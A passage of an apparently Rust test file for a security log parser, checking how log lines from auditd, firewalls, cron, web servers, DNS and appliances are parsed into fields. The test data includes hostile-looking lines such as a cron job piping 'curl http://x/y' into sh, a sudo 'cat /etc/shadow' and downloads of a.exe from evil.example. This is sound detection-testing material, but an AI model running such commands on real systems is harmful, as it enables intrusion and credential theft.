//! Text logs of products: line by line what each gives. `real:` stands above lines that a system wrote (the shared data,
//! or printed in a vendor's own documentation); `built:` above lines made after the published format.

use super::*;

/// Log source, time and fields of each line, without the message and without the entities' kinds spelt out.
#[track_caller]
fn check(lines: &str, expect: Expect) {
    check_with(lines, &SourceOptions::default(), expect);
}

#[track_caller]
fn check_with(lines: &str, options: &SourceOptions, expect: Expect) {
    let mut shown = String::new();
    for line in lines.lines().filter(|line| !line.is_empty()) {
        let decoded = decode(&record(line.as_bytes(), Framing::Record, RECEIVED_AT, None), options.clone());
        assert!(decoded.rejects.is_empty(), "{:?}", decoded.rejects);
        let event = decoded.events.first().unwrap();
        let source = &event.log_source;
        let words = [&source.product, &source.category, &source.service].map(|word| word.as_deref().unwrap_or("-"));
        shown += &format!("{} {} {:?}\n", words.join("/"), event.time, event.time_basis);
        let fields = event.fields.iter().filter_map(|(name, value, _)| {
            let name = name.text();
            let is_head = ["message", "program", "facility", "syslog_severity"].contains(&&*name);
            (!is_head && !name.is_empty()).then(|| format!("{name}={value}"))
        });
        let fields = fields.collect::<Vec<_>>().join(" | ");
        let entities: Vec<_> = event.entities.iter().map(ToString::to_string).collect();
        for part in [fields, entities.join(" ")].into_iter().filter(|part| !part.is_empty()) {
            shown += &format!("  {part}\n");
        }
        let has_text = event.fields.has(Name::intern("message")) || event.fields.has(Name::intern("request"));
        assert!(has_text || line.ends_with('}'), "neither message nor request: {line}");
    }
    expect.assert_eq(&shown);
}

#[test]
fn auditd() {
    // real: shared/data/events/otrf_linux_auditd.log
    check(
        r#"
type=SYSCALL msg=audit(1604996384.965:93777): arch=c000003e syscall=59 success=yes exit=0 a0=558e25052c70 a1=558e251641a0 a2=558e25160800 a3=1b6 items=2 ppid=29002 pid=2168 auid=1000 uid=1000 gid=1000 euid=1000 tty=pts0 ses=104 comm="dd" exe="/bin/dd" key=(null)
type=EXECVE msg=audit(1604996384.965:93777): argc=4 a0="dd" a1="if=/dev/zero" a2="bs=1" a3="count=1"
type=PATH msg=audit(1604996384.965:93777): item=0 name="/bin/dd" inode=20 dev=08:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0
type=PROCTITLE msg=audit(1604996384.965:93777): proctitle=64640069663D2F6465762F7A65726F0062733D3100636F756E743D31
"#,
        expect![[r#"
            linux/-/auditd 2020-11-10T08:19:44.965Z Declared
              type=SYSCALL | serial=93777 | syscall=59 | a0=558e25052c70 | a1=558e251641a0 | a2=558e25160800 | a3=1b6 | pid=2168 | uid=1000 | gid=1000 | euid=1000 | tty=pts0 | comm=dd | exe=/bin/dd | SYSCALL=execve
              process:/bin/dd
            linux/-/auditd 2020-11-10T08:19:44.965Z Declared
              type=EXECVE | serial=93777 | event_type=process_executed | a0=dd | a1=if=/dev/zero | a2=bs=1 | a3=count=1
            linux/-/auditd 2020-11-10T08:19:44.965Z Declared
              type=PATH | serial=93777 | name=/bin/dd | nametype=NORMAL
            linux/-/auditd 2020-11-10T08:19:44.965Z Declared
              type=PROCTITLE | serial=93777
        "#]],
    );
    // built: after audit's documentation (raw and enriched records, audispd's syslog plugin, the kernel's own form)
    check(
        "
node=web type=EXECVE msg=audit(1604996384.965:1): argc=3 a0=\"sh\" a1=\"-c\" a2=6563686F20227822
type=EXECVE msg=audit(1604996384.965:1): argc=2 a0=\"x\" a1_len=4 a1[0]=6162 a1[1]=6364
type=SYSCALL msg=audit(1604996384.965:2): arch=c000003e syscall=59 comm=\"id\" exe=\"/usr/bin/id\" key=726F6F740165786563\u{1d}ARCH=x86_64 SYSCALL=execve AUID=\"alice\" UID=\"root\"
Jan  5 13:00:00 web audispd: type=USER_LOGIN msg=audit(1604996384.965:3): pid=9 uid=0 auid=4294967295 ses=4294967295 msg='op=login acct=\"root\" exe=\"/usr/sbin/sshd\" hostname=? addr=10.0.0.5 terminal=sshd res=failed'
type=USER_LOGIN msg=audit(1604996384.965:3): pid=9 msg='op=login acct=28696E76616C6964207573657229 exe=\"/usr/sbin/sshd\" hostname=10.0.0.5 addr=10.0.0.5 terminal=sshd res=failed'
type=ADD_USER msg=audit(1604996384.965:4): pid=9 uid=0 auid=1000 msg='op=adding user id=1002 exe=\"/usr/sbin/useradd\" hostname=web addr=? terminal=pts/0 res=success'
type=USER_CMD msg=audit(1604996384.965:5): pid=9 auid=1000 msg='cwd=\"/home/al\" cmd=636174202F6574632F736861646F77 exe=\"/usr/bin/sudo\" terminal=pts/0 res=success'
Jan  5 13:00:00 web kernel: [   12.345678] audit: type=1400 audit(1604996384.965:6): apparmor=\"DENIED\" operation=\"open\" name=\"/etc/shadow\" comm=\"evil\"
type=SOCKADDR msg=audit(1604996384.965:7): saddr=0200115CC0A801070000000000000000
type=PATH msg=audit(bad): name=\"/etc/passwd\"
",
        expect![[r#"
            linux/-/auditd 2020-11-10T08:19:44.965Z Declared
              type=EXECVE | serial=1 | node=web | event_type=process_executed | a0=sh | a1=-c | a2=echo "x"
            linux/-/auditd 2020-11-10T08:19:44.965Z Declared
              type=EXECVE | serial=1 | event_type=process_executed | a0=x | a1=abcd
            linux/-/auditd 2020-11-10T08:19:44.965Z Declared
              type=SYSCALL | serial=2 | syscall=59 | comm=id | exe=/usr/bin/id | key=root | key=exec | SYSCALL=execve | user=alice
              user:alice process:/usr/bin/id
            linux/-/auditd 2020-11-10T08:19:44.965Z Declared
              host=web | type=USER_LOGIN | serial=3 | event_type=authentication_failed | pid=9 | uid=0 | user=root | exe=/usr/sbin/sshd | source_ip=10.0.0.5
              host:web user:root address:10.0.0.5 process:/usr/sbin/sshd
            linux/-/auditd 2020-11-10T08:19:44.965Z Declared
              type=USER_LOGIN | serial=3 | event_type=authentication_failed | pid=9 | user=(invalid user) | exe=/usr/sbin/sshd | source_ip=10.0.0.5
              user:(invalid user) address:10.0.0.5 process:/usr/sbin/sshd
            linux/-/auditd 2020-11-10T08:19:44.965Z Declared
              type=ADD_USER | serial=4 | event_type=account_created | pid=9 | uid=0 | exe=/usr/sbin/useradd | source_host=web
              process:/usr/sbin/useradd
            linux/-/auditd 2020-11-10T08:19:44.965Z Declared
              type=USER_CMD | serial=5 | event_type=sudo_command | pid=9 | cwd=/home/al | command=cat /etc/shadow | exe=/usr/bin/sudo
              process:/usr/bin/sudo
            linux/-/auditd 2020-11-10T08:19:44.965Z Declared
              host=web | type=AVC | serial=6 | operation=open | name=/etc/shadow | comm=evil
              host:web
            linux/-/auditd 2020-11-10T08:19:44.965Z Declared
              type=SOCKADDR | serial=7 | dst_ip=192.168.1.7 | dst_port=4444
            -/-/- 2026-01-05T14:00:00Z Received
              type=PATH | name=/etc/passwd
        "#]],
    );
}

#[test]
fn firewalls() {
    // real: shared/data (MikroTik); built: netfilter and ufw after Linux' xt_LOG, filterlog after Netgate's documentation
    check(
        "
2023-03-18T20:36:59.594792+01:00 10.120.127.1 firewall,info drop-tcp input: in:ether1-WAN out:(unknown 0), connection-state:new src-mac 00:17:10:88:bc:02, proto TCP (SYN), 36.97.161.219:59388->80.82.202.145:23, len 40
Jan  5 13:00:00 web kernel: [UFW BLOCK] IN=eth0 OUT= MAC=aa:bb SRC=1.2.3.4 DST=10.0.0.5 LEN=40 TOS=0x00 PREC=0x00 TTL=240 ID=1 PROTO=TCP SPT=40000 DPT=22 WINDOW=1024 RES=0x00 SYN URGP=0
Jan  5 13:00:00 web kernel: [  12.345] nft accept: IN=eth0 OUT=eth1 SRC=1.2.3.4 DST=10.0.0.5 LEN=40 PROTO=UDP SPT=1 DPT=53 LEN=20
Jan  5 13:00:00 fw filterlog[123]: 4,,,1000000103,igb0,match,block,in,4,0x0,,64,0,0,DF,6,tcp,60,1.2.3.4,10.0.0.5,40000,22,0,S,1,,65535,,mss
Jan  5 13:00:00 fw filterlog[123]: 5,,,1000000104,igb0,match,pass,out,6,0x00,0x00000,64,UDP,17,60,2001:db8::1,2001:db8::2,5353,53,40
",
        expect![[r#"
            mikrotik/firewall/firewall 2023-03-18T19:36:59.594792Z Declared
              src_ip=36.97.161.219 | source_ip=36.97.161.219 | src_port=59388 | dst_ip=80.82.202.145 | dst_port=23 | protocol=TCP | device_in=ether1-WAN | action=block | blocked=true
              address:36.97.161.219 address:80.82.202.145
            linux/firewall/iptables 2026-01-05T13:00:00Z Assumed
              host=web | src_ip=1.2.3.4 | source_ip=1.2.3.4 | src_port=40000 | dst_ip=10.0.0.5 | dst_port=22 | protocol=TCP | device_in=eth0 | action=block | blocked=true
              host:web address:1.2.3.4 address:10.0.0.5
            linux/firewall/iptables 2026-01-05T13:00:00Z Assumed
              host=web | src_ip=1.2.3.4 | source_ip=1.2.3.4 | src_port=1 | dst_ip=10.0.0.5 | dst_port=53 | protocol=UDP | device_in=eth0 | device_out=eth1 | action=accept | blocked=false
              host:web address:1.2.3.4 address:10.0.0.5
            pfsense/firewall/filterlog 2026-01-05T13:00:00Z Assumed
              host=fw | pid=123 | src_ip=1.2.3.4 | source_ip=1.2.3.4 | src_port=40000 | dst_ip=10.0.0.5 | dst_port=22 | protocol=tcp | device_in=igb0 | action=block | blocked=true
              host:fw address:1.2.3.4 address:10.0.0.5
            pfsense/firewall/filterlog 2026-01-05T13:00:00Z Assumed
              host=fw | pid=123 | src_ip=2001:db8::1 | source_ip=2001:db8::1 | src_port=5353 | dst_ip=2001:db8::2 | dst_port=53 | protocol=UDP | device_out=igb0 | action=pass | action=accept | blocked=false
              host:fw address:2001:db8::1 address:2001:db8::2
        "#]],
    );
}

#[test]
fn accounts_and_cron() {
    // built: after the sources of shadow-utils, cron, util-linux and systemd
    check(
        "
Jan  5 13:00:00 web useradd[9]: new user: name=mallory, UID=1001, GID=1001, home=/home/mallory, shell=/bin/bash, from=/dev/pts/0
Jan  5 13:00:00 web groupadd[9]: new group: name=mallory, GID=1001
Jan  5 13:00:00 web usermod[9]: add 'mallory' to group 'sudo'
Jan  5 13:00:00 web usermod[9]: add 'mallory' to shadow group 'sudo'
Jan  5 13:00:00 web gpasswd[9]: user mallory added by root to group docker
Jan  5 13:00:00 web userdel[9]: delete user 'mallory'
Jan  5 13:00:00 web passwd[9]: pam_unix(passwd:chauthtok): password changed for mallory
Jan  5 13:00:00 web chpasswd[9]: pam_unix(chpasswd:chauthtok): password changed for root
Jan  5 13:00:00 web su[9]: FAILED SU (to root) alice on pts/0
Jan  5 13:00:00 web su[9]: (to root) alice on pts/0
Jan  5 13:00:00 web su: - /dev/pts/0 alice:root
Jan  5 13:00:00 web CRON[9]: (root) CMD (/usr/bin/curl http://x/y | sh)
Jan  5 13:00:00 web CROND[9]: (root) CMD (run-parts /etc/cron.hourly)
Jan  5 13:00:00 web crontab[9]: (mallory) REPLACE (mallory)
Jan  5 13:00:00 web cron[9]: (mallory) RELOAD (crontabs/mallory)
Jan  5 13:00:00 web systemd[1]: Started evil.service - Totally fine.
Jan  5 13:00:00 web systemd-logind[1]: New session 5 of user alice.
Jan  5 13:00:00 web kernel: [1.2] device eth0 entered promiscuous mode
",
        expect![[r#"
            linux/-/useradd 2026-01-05T13:00:00Z Assumed
              host=web | pid=9 | event_type=account_created | target_user=mallory | uid=1001 | gid=1001 | home=/home/mallory | shell=/bin/bash | tty=/dev/pts/0
              host:web user:mallory
            linux/-/groupadd 2026-01-05T13:00:00Z Assumed
              host=web | pid=9 | event_type=group_created | group=mallory | gid=1001
              host:web
            linux/-/usermod 2026-01-05T13:00:00Z Assumed
              host=web | pid=9 | event_type=group_member_added | target_user=mallory | group=sudo
              host:web user:mallory
            linux/-/usermod 2026-01-05T13:00:00Z Assumed
              host=web | pid=9 | event_type=shadow_group_member_added
              host:web
            linux/-/gpasswd 2026-01-05T13:00:00Z Assumed
              host=web | pid=9 | event_type=group_member_added | user=root | target_user=mallory | group=docker
              host:web user:mallory user:root
            linux/-/userdel 2026-01-05T13:00:00Z Assumed
              host=web | pid=9 | event_type=account_deleted | target_user=mallory
              host:web user:mallory
            linux/-/passwd 2026-01-05T13:00:00Z Assumed
              host=web | pid=9 | event_type=password_changed | target_user=mallory
              host:web user:mallory
            linux/-/chpasswd 2026-01-05T13:00:00Z Assumed
              host=web | pid=9 | event_type=password_changed | target_user=root
              host:web user:root
            linux/-/su 2026-01-05T13:00:00Z Assumed
              host=web | pid=9 | event_type=su_denied | user=alice | target_user=root
              host:web user:alice user:root
            linux/-/su 2026-01-05T13:00:00Z Assumed
              host=web | pid=9 | event_type=su_succeeded | user=alice | target_user=root
              host:web user:alice user:root
            linux/-/su 2026-01-05T13:00:00Z Assumed
              host=web | event_type=su_denied | user=alice | target_user=root
              host:web user:alice user:root
            linux/-/cron 2026-01-05T13:00:00Z Assumed
              host=web | pid=9 | event_type=cron_command | user=root | command=/usr/bin/curl http://x/y | sh
              host:web user:root
            linux/-/cron 2026-01-05T13:00:00Z Assumed
              host=web | pid=9 | event_type=cron_command | user=root | command=run-parts /etc/cron.hourly
              host:web user:root
            linux/-/cron 2026-01-05T13:00:00Z Assumed
              host=web | pid=9 | event_type=crontab_replaced | user=mallory | target_user=mallory
              host:web user:mallory
            linux/-/cron 2026-01-05T13:00:00Z Assumed
              host=web | pid=9 | event_type=crontab_reloaded | user=mallory | path=crontabs/mallory
              host:web user:mallory
            linux/-/systemd 2026-01-05T13:00:00Z Assumed
              host=web | pid=1 | event_type=service_started | unit=evil.service
              host:web
            linux/-/systemd-logind 2026-01-05T13:00:00Z Assumed
              host=web | pid=1 | event_type=session_opened | user=alice
              host:web user:alice
            linux/-/kernel 2026-01-05T13:00:00Z Assumed
              host=web | event_type=promiscuous_mode | device_in=eth0
              host:web
        "#]],
    );
}

#[test]
fn requests_in_other_layouts() {
    // real: HAProxy's and Squid's documentation, AWS' (shared/data), IIS' of Microsoft's documentation
    check(
        r#"
Feb  6 12:14:14 localhost haproxy[14389]: 10.0.1.2:33317 [06/Feb/2009:12:14:14.655] http-in static/srv1 10/0/30/69/109 200 2750 - - ---- 1/1/1/1/0 0/0 {1wt.eu} {} "GET /index.html?a=1 HTTP/1.1"
1286536309.450    192 192.168.0.68 TCP_MISS/200 507 POST http://rcv-srv.example.com:8080/content/x.exe?id=7 bob DIRECT/203.0.113.9 text/html
1286536310.450      0 192.168.0.68 TCP_DENIED/407 3874 CONNECT evil.example:443 - HIER_NONE/- text/html
https 2023-04-26T12:23:00.186641Z app/x/49 192.168.1.100:44740 10.0.0.1:80 0.086 0.048 0.037 200 200 0 57 "GET https://www.example.com:443/robots.txt HTTP/1.1" "curl/7.46.0" ECDHE TLSv1.2
[GIN] 2022/02/07 - 10:49:33 | 401 |     505.317µs |       10.1.2.3 | POST     "/client"
2026-01-05 13:00:00 10.0.0.1 GET /owa/auth.aspx a=1 443 - 203.0.113.9 Mozilla/5.0+(Windows+NT+10.0) - 200 0 0 15
2026-01-05 13:00:00 W3SVC1 10.0.0.1 POST /x.asp - 80 dom\bob 203.0.113.9 sqlmap/1.0 500 0 0
#Fields: date time s-ip cs-method
2022/04/02 13:39:51 [error] 8#8: *1 user "bob": password mismatch, client: 5.34.207.182, server: x, request: "GET /a HTTP/1.1", host: "h"
2022/04/02 13:39:51 [error] 8#8: *1 open() "/var/www/.env" failed (2: No such file or directory), client: 5.34.207.182, server: x, request: "GET /.env HTTP/1.1", host: "h"
[Wed Jul 05 09:19:24.428126 2023] [auth_basic:error] [pid 1:tid 2] [client 33.202.142.97:55309] AH01617: user bob: authentication failure for "/x": Password Mismatch
"#,
        expect![[r#"
            -/webserver/haproxy 2025-02-06T12:14:14Z Assumed
              host=localhost | pid=14389 | c-ip=10.0.1.2 | source_ip=10.0.1.2 | request=GET /index.html?a=1 HTTP/1.1 | event_type=http_request | cs-method=GET | cs-uri=/index.html?a=1 | c-uri=/index.html?a=1 | cs-uri-stem=/index.html | path=/index.html | cs-uri-query=a=1 | cs-uri-query=/index.html?a=1 | cs-version=HTTP/1.1 | sc-status=200 | status=200 | sc-bytes=2750 | cs-host=1wt.eu | upstream=static/srv1
              host:localhost address:10.0.1.2 domain:1wt.eu
            -/proxy/squid 2010-10-08T11:11:49.45Z Declared
              c-ip=192.168.0.68 | source_ip=192.168.0.68 | c-user=bob | cs-username=bob | cs-method=POST | cs-uri=http://rcv-srv.example.com:8080/content/x.exe?id=7 | c-uri=http://rcv-srv.example.com:8080/content/x.exe?id=7 | cs-uri-stem=/content/x.exe | path=/content/x.exe | cs-uri-query=id=7 | cs-uri-query=http://rcv-srv.example.com:8080/content/x.exe?id=7 | cs-host=rcv-srv.example.com | c-uri-query=id=7 | c-uri-extension=exe | sc-status=200 | status=200 | sc-bytes=507 | cs-content-type=text/html | time-taken=192 | event_type=proxy_request | action=allowed | action=accept | blocked=false | dst_ip=203.0.113.9
              user:bob address:192.168.0.68 address:203.0.113.9 domain:rcv-srv.example.com
            -/proxy/squid 2010-10-08T11:11:50.45Z Declared
              c-ip=192.168.0.68 | source_ip=192.168.0.68 | cs-method=CONNECT | cs-uri=evil.example:443 | c-uri=evil.example:443 | cs-uri-stem=evil.example:443 | path=evil.example:443 | cs-uri-query=evil.example:443 | cs-host=evil.example | sc-status=407 | status=407 | sc-bytes=3874 | cs-content-type=text/html | time-taken=0 | event_type=proxy_request | action=denied | action=block | blocked=true
              address:192.168.0.68 domain:evil.example
            -/webserver/elb 2023-04-26T12:23:00.186641Z Declared
              c-ip=192.168.1.100 | source_ip=192.168.1.100 | request=GET https://www.example.com:443/robots.txt HTTP/1.1 | event_type=http_request | cs-method=GET | cs-uri=https://www.example.com:443/robots.txt | c-uri=https://www.example.com:443/robots.txt | cs-uri-stem=/robots.txt | path=/robots.txt | cs-uri-query=https://www.example.com:443/robots.txt | cs-version=HTTP/1.1 | sc-status=200 | status=200 | sc-bytes=57 | upstream=10.0.0.1:80 | cs-user-agent=curl/7.46.0 | c-useragent=curl/7.46.0
              address:192.168.1.100
            -/webserver/gin 2022-02-07T10:49:33Z Assumed
              c-ip=10.1.2.3 | source_ip=10.1.2.3 | event_type=http_request | cs-method=POST | cs-uri=/client | c-uri=/client | cs-uri-stem=/client | path=/client | cs-uri-query=/client | sc-status=401 | status=401 | sc-bytes=-
              address:10.1.2.3
            -/webserver/iis 2026-01-05T13:00:00Z Declared
              cs-method=GET | cs-uri-stem=/owa/auth.aspx | path=/owa/auth.aspx | cs-uri-query=a=1 | s-port=443 | c-ip=203.0.113.9 | source_ip=203.0.113.9 | cs-user-agent=Mozilla/5.0+(Windows+NT+10.0) | c-useragent=Mozilla/5.0+(Windows+NT+10.0) | cs-user-agent=Mozilla/5.0 (Windows NT 10.0) | c-useragent=Mozilla/5.0 (Windows NT 10.0) | sc-status=200 | status=200 | sc-substatus=0 | time-taken=15 | event_type=http_request | cs-uri=/owa/auth.aspx?a=1 | c-uri=/owa/auth.aspx?a=1 | cs-uri-query=/owa/auth.aspx?a=1
              address:203.0.113.9
            -/webserver/iis 2026-01-05T13:00:00Z Declared
              cs-method=POST | cs-uri-stem=/x.asp | path=/x.asp | s-port=80 | cs-username=dom\bob | c-ip=203.0.113.9 | source_ip=203.0.113.9 | cs-user-agent=sqlmap/1.0 | c-useragent=sqlmap/1.0 | sc-status=500 | status=500 | sc-substatus=0 | event_type=http_request | cs-uri=/x.asp | c-uri=/x.asp | cs-uri-query=/x.asp
              user:dom\bob address:203.0.113.9
            -/-/- 2026-01-05T14:00:00Z Received
            -/-/nginx 2022-04-02T13:39:51Z Assumed
              level=error | source_ip=5.34.207.182 | user=bob | event_type=authentication_failed
              user:bob address:5.34.207.182
            -/-/nginx 2022-04-02T13:39:51Z Assumed
              level=error | source_ip=5.34.207.182 | request=GET /.env HTTP/1.1 | event_type=http_request | cs-method=GET | cs-uri=/.env | c-uri=/.env | cs-uri-stem=/.env | path=/.env | cs-uri-query=/.env | cs-version=HTTP/1.1 | cs-host=h
              address:5.34.207.182 domain:h
            -/-/apache 2023-07-05T09:19:24.428126Z Assumed
              level=error | source_ip=33.202.142.97 | user=bob | event_type=authentication_failed
              user:bob address:33.202.142.97
        "#]],
    );
    let options = SourceOptions {
        columns: ["date", "time", "c-ip", "cs-method", "cs-uri", "sc-status"].map(String::from).to_vec(),
        ..SourceOptions::default()
    };
    check_with(
        "2026-01-05 13:00:00 10.0.0.9 GET http://evil.example/a.exe?b 200",
        &options,
        expect![[r#"
            -/webserver/- 2026-01-05T13:00:00Z Declared
              c-ip=10.0.0.9 | source_ip=10.0.0.9 | cs-method=GET | cs-uri=http://evil.example/a.exe?b | c-uri=http://evil.example/a.exe?b | cs-uri-stem=/a.exe | path=/a.exe | cs-uri-query=b | cs-uri-query=http://evil.example/a.exe?b | cs-host=evil.example | c-uri-query=b | c-uri-extension=exe | sc-status=200 | status=200 | event_type=http_request
              address:10.0.0.9 domain:evil.example
        "#]],
    );
}

#[test]
fn dns_servers() {
    // real: lines of ISC's and dnsmasq's documentation; built: unbound and Windows after theirs
    check(
        "
05-Jan-2026 13:00:00.123 queries: info: client @0x7f95c00ec4d0 10.0.0.5#53124 (www.example.com): query: www.example.com IN A +E(0)K (10.0.0.1)
Jan  5 13:00:00 ns named[9]: client 10.0.0.5#53124 (x.example): query: x.example IN TXT + (10.0.0.1)
Jan  5 13:00:00 ns named[9]: client 203.0.113.9#53 (isc.org): query (cache) 'isc.org/ANY/IN' denied
Jan  5 13:00:00 ns dnsmasq[9]: query[A] api.telegram.org from 10.0.0.5
Jan  5 13:00:00 ns dnsmasq[9]: reply api.telegram.org is 149.154.167.220
Jan  5 13:00:00 ns unbound: [1234:0] info: 10.0.0.5 www.example.com. A IN
Jan  5 13:00:00 ns unbound: [1234:0] info: 10.0.0.5 www.example.com. A IN NXDOMAIN 0.000000 1 60
6/15/2023 10:11:12 PM 0E6C PACKET  000001D1B2C3D4E0 UDP Rcv 10.0.0.5        0002   Q [0001   D   NOERROR] A      (3)www(7)example(3)com(0)
",
        expect![[r#"
            linux/dns/named 2026-01-05T13:00:00.123Z Assumed
              event_type=dns_query | source_ip=10.0.0.5 | query=www.example.com | record_type=A
              address:10.0.0.5 domain:www.example.com
            linux/dns/named 2026-01-05T13:00:00Z Assumed
              host=ns | pid=9 | event_type=dns_query | source_ip=10.0.0.5 | query=x.example | record_type=TXT
              host:ns address:10.0.0.5 domain:x.example
            linux/dns/named 2026-01-05T13:00:00Z Assumed
              host=ns | pid=9 | event_type=dns_denied | source_ip=203.0.113.9 | query=isc.org | record_type=ANY
              host:ns address:203.0.113.9 domain:isc.org
            linux/dns/dnsmasq 2026-01-05T13:00:00Z Assumed
              host=ns | pid=9 | event_type=dns_query | source_ip=10.0.0.5 | query=api.telegram.org | record_type=A
              host:ns address:10.0.0.5 domain:api.telegram.org
            linux/dns/dnsmasq 2026-01-05T13:00:00Z Assumed
              host=ns | pid=9 | event_type=dns_answer | query=api.telegram.org | answer=149.154.167.220
              host:ns domain:api.telegram.org
            linux/dns/unbound 2026-01-05T13:00:00Z Assumed
              host=ns | event_type=dns_query | source_ip=10.0.0.5 | query=www.example.com | record_type=A
              host:ns address:10.0.0.5 domain:www.example.com
            linux/dns/unbound 2026-01-05T13:00:00Z Assumed
              host=ns | event_type=dns_answer | source_ip=10.0.0.5 | query=www.example.com | record_type=A | response_code=NXDOMAIN
              host:ns address:10.0.0.5 domain:www.example.com
            windows/dns/dns-server-debug 2023-06-15T22:11:12Z Assumed
              event_type=dns_query | source_ip=10.0.0.5 | query=www.example.com | record_type=A
              address:10.0.0.5 domain:www.example.com
        "#]],
    );
}

#[test]
fn cef_and_leef() {
    // real: the example of the CEF guide (first); built: the others after ArcSight's and IBM's guides
    check(
        "
Sep 19 08:26:10 host CEF:0|Security|threatmanager|1.0|100|worm successfully stopped|10|src=10.0.0.1 dst=2.1.2.2 spt=1232
Jan  5 13:00:00 fw CEF:0|Check Point|VPN-1|R81|Drop|a \\| b|5|act=Drop src=1.2.3.4 dst=10.0.0.5 spt=4000 dpt=22 proto=tcp cs1Label=Firewall Rule cs1=No \\= entry msg=two words here rt=1767618000000
CEF:0|Zscaler|NSSWeblog|6|Blocked|x|3|act=Blocked src=10.0.0.7 request=http://evil.example/a.exe requestMethod=GET suser=bob requestClientApplication=curl/8
CEF:0|Trend Micro|Deep Security|20|4000000|Eicar_test_file malware|6|src=10.0.0.7 fname=C:\\\\temp\\\\eicar.com act=Delete virusname=Eicar
LEEF:2.0|Vendor|Product|1.0|login|^|src=10.0.0.5^usrName=bob^sev=5^devTime=1767618000000
LEEF:1.0|Vendor|Product|1.0|deny|src=1.2.3.4\tdst=10.0.0.5\tdstPort=22\tproto=TCP\taction=deny
",
        expect![[r#"
            security/-/- 2025-09-19T08:26:10Z Assumed
              host=host | vendor=Security | product=threatmanager | version=1.0 | event_class=100 | name=worm successfully stopped | src_ip=10.0.0.1 | source_ip=10.0.0.1 | dst_ip=2.1.2.2 | src_port=1232
              host:host address:10.0.0.1 address:2.1.2.2
            checkpoint/firewall/- 2026-01-05T13:00:00Z Declared
              host=fw | vendor=Check Point | product=VPN-1 | version=R81 | event_class=Drop | name=a | b | action=Drop | action=block | blocked=true | src_ip=1.2.3.4 | source_ip=1.2.3.4 | dst_ip=10.0.0.5 | src_port=4000 | dst_port=22 | protocol=tcp | Firewall Rule=No = entry
              host:fw address:1.2.3.4 address:10.0.0.5
            zscaler/proxy/- 2026-01-05T14:00:00Z Received
              vendor=Zscaler | product=NSSWeblog | version=6 | event_class=Blocked | name=x | action=Blocked | action=block | blocked=true | src_ip=10.0.0.7 | source_ip=10.0.0.7 | cs-uri=http://evil.example/a.exe | c-uri=http://evil.example/a.exe | cs-uri-stem=/a.exe | path=/a.exe | cs-uri-query=http://evil.example/a.exe | cs-host=evil.example | c-uri-extension=exe | request=http://evil.example/a.exe | cs-method=GET | user=bob | cs-user-agent=curl/8 | c-useragent=curl/8
              user:bob address:10.0.0.7 domain:evil.example
            trendmicro/antivirus/- 2026-01-05T14:00:00Z Received
              vendor=Trend Micro | product=Deep Security | version=20 | event_class=4000000 | name=Eicar_test_file malware | src_ip=10.0.0.7 | source_ip=10.0.0.7 | Filename=C:\temp\eicar.com | action=Delete | Signature=Eicar
              address:10.0.0.7
            vendor/-/- 2026-01-05T13:00:00Z Declared
              vendor=Vendor | product=Product | version=1.0 | event_class=login | src_ip=10.0.0.5 | source_ip=10.0.0.5 | user=bob
              user:bob address:10.0.0.5
            vendor/firewall/- 2026-01-05T14:00:00Z Received
              vendor=Vendor | product=Product | version=1.0 | event_class=deny | src_ip=1.2.3.4 | source_ip=1.2.3.4 | dst_ip=10.0.0.5 | dst_port=22 | protocol=TCP | action=deny | action=block | blocked=true | action=deny
              address:1.2.3.4 address:10.0.0.5
        "#]],
    );
}

#[test]
fn appliances() {
    // real: shared/data (FortiOS); Cisco's documentation; built: PAN-OS after its syslog field descriptions
    check(
        r#"
date=2024-10-14 time=13:46:41 eventtime=1728938802127358411 tz="-0700" logid="1234567890" type="event" subtype="vpn" level="alert" vd="root" logdesc="SSL VPN login fail" action="ssl-login-fail" remip=192.168.0.1 user="sapservicecq1" group="N/A" reason="sslvpn_login_no_matching_policy"
<189>date=2026-01-05 time=13:00:00 devname="fw1" logid="0000000013" type="traffic" subtype="forward" srcip=10.0.0.5 srcport=4000 dstip=203.0.113.9 dstport=443 proto=6 action="accept"
<189>date=2026-01-05 time=13:00:00 devname="fw1" logid="0100044547" type="event" subtype="system" action="Add" user="admin" ui="ssh(203.0.113.9)" cfgpath="user.local"
<189>date=2026-01-05 time=13:00:00 devname="fw1" logid="0317013312" type="utm" subtype="webfilter" srcip=10.0.0.5 hostname="evil.example" url="/a.exe" action="blocked"
<14>Jan  5 13:00:00 PA-VM 1,2026/01/05 13:00:00,012801096514,TRAFFIC,end,2305,2026/01/05 12:59:59,1.2.3.4,10.0.0.5,0.0.0.0,0.0.0.0,allow web,,dom\bob,ssl,vsys1,untrust,trust,ethernet1/1,ethernet1/2,default,2026/01/05 13:00:00,1234,1,4000,443,0,0,0x1c,tcp,allow,5000,2000,3000,20
<14>Jan  5 13:00:00 PA-VM 1,2026/01/05 13:00:00,012801096514,THREAT,url,2305,2026/01/05 12:59:59,10.0.0.5,203.0.113.9,0.0.0.0,0.0.0.0,web,dom\bob,,web-browsing,vsys1,trust,untrust,ethernet1/2,ethernet1/1,default,,1234,1,4000,80,0,0,0x0,tcp,block-url,"evil.example/a.exe?x=1,2",(9999),malware,informational,client-to-server
<14>Jan  5 13:00:00 PA-VM 1,2026/01/05 13:00:00,012801096514,SYSTEM,auth,2305,2026/01/05 12:59:59,,auth-fail,,0,0,general,medium,"failed authentication for user 'bob'. Reason: Invalid username/password. From: 203.0.113.9.",1,0x0
<14>Jan  5 13:00:00 PA-VM 1,2026/01/05 13:00:00,012801096514,GLOBALPROTECT,0,2305,2026/01/05 12:59:59,vsys1,gateway-auth,login,LDAP,,bob,US,laptop,203.0.113.9,0.0.0.0,0.0.0.0,0.0.0.0,id,,5.2,Windows,10,1,,,,failure,,0,,0,gw
<166>Jan 05 2026 13:00:00: %ASA-4-106023: Deny tcp src outside:1.2.3.4/4000 dst inside:10.0.0.5/22 by access-group "OUT" [0x0, 0x0]
<166>Jan 05 2026 13:00:00 fw : %ASA-6-302013: Built inbound TCP connection 11 for outside:1.2.3.4/4000 (1.2.3.4/4000) to inside:10.0.0.5/443 (10.0.0.5/443)
<166>Jan 05 2026 13:00:00: %ASA-4-106100: access-list OUT denied tcp outside/1.2.3.4(4000) -> inside/10.0.0.5(22) hit-cnt 1 first hit
<166>Jan 05 2026 13:00:00: %ASA-6-113015: AAA user authentication Rejected : reason = Invalid password : local database : user = bob : user IP = 203.0.113.9
<189>29: *Jan  5 13:00:00.123: %SEC_LOGIN-4-LOGIN_FAILED: Login failed [user: bob] [Source: 203.0.113.9] [localport: 22] [Reason: Login Authentication Failed] at 13:00:00 UTC
